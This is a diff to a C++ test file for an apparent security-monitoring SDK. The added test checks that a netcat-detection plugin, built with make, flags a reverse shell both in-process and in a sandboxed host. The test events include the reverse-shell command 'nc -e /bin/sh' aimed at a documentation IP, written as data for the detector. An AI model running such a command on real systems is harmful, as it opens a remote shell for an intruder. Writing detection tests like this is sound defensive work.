@@ -7,6 +7,7 @@
 #include <filesystem>
 
 #include "phantomguard/runtime/plugin_detector.hpp"
+#include "phantomguard/runtime/plugin_isolation.hpp"
 #include "scratch_dir.hpp"
 #include "test_context.hpp"
 
@@ -87,6 +88,51 @@ SCENARIO("an outside author builds the example against the installed SDK", "[sdk
         REQUIRE(ctx.findings.size() == 1);
         CHECK(ctx.findings[0].rule == "example.tmp_exec");
         CHECK(ctx.findings[0].entity["pid"] == 4242);
+      }
+    }
+    WHEN("the plain C example is built with make and pkg-config, without CMake") {
+      const std::string src = tmp / "c-plugin";
+      fs::copy(PG_SOURCE_DIR "/examples/c-plugin", src, fs::copy_options::recursive);
+      REQUIRE(sh("make -C '" + src + "' PKG_CONFIG_PATH='" + prefix + "/lib/pkgconfig'") == 0);
+      const std::string so = src + "/netcat_exec.so";
+      REQUIRE(fs::exists(so));
+      auto feed = [](component& c) {
+        pg::test::test_context ctx;
+        c.start(ctx);
+        event_batch b;
+        event shell;
+        shell.kind = "process";
+        shell.set("pid", std::int64_t{4242}).set("comm", std::string("nc"));
+        shell.set("cmdline", std::string("nc -e /bin/sh 203.0.113.9 4444"));
+        b.events.push_back(shell);
+        event benign;
+        benign.kind = "process";
+        benign.set("pid", std::int64_t{7}).set("comm", std::string("nc"));
+        benign.set("cmdline", std::string("nc -z 127.0.0.1 22"));
+        b.events.push_back(benign);
+        c.on_batch(b, ctx);
+        c.stop(ctx);
+        return ctx.findings;
+      };
+      THEN("it loads in-process and finds the shell") {
+        plugin_request r;
+        r.plugin = so;
+        auto c = make_plugin_component(r);
+        const auto found = feed(*c);
+        REQUIRE(found.size() == 1);
+        CHECK(found[0].rule == "example.netcat_exec");
+        CHECK(found[0].level == severity::high);
+        CHECK(found[0].entity["pid"] == 4242);
+      }
+      THEN("it loads isolated, in the sandboxed child, and finds the same") {
+        ::setenv("PHANTOMGUARD_PLUGIN_HOST", PG_ISOLATION_HOST, 1);
+        plugin_request r;
+        r.plugin = so;
+        auto c = make_isolated_plugin_component(r, isolation_settings{}, "netcat");
+        const auto found = feed(*c);
+        REQUIRE(found.size() == 1);
+        CHECK(found[0].rule == "example.netcat_exec");
+        CHECK(found[0].entity["pid"] == 4242);
       }
     }
     WHEN("a project asks for SDK 2.0") {
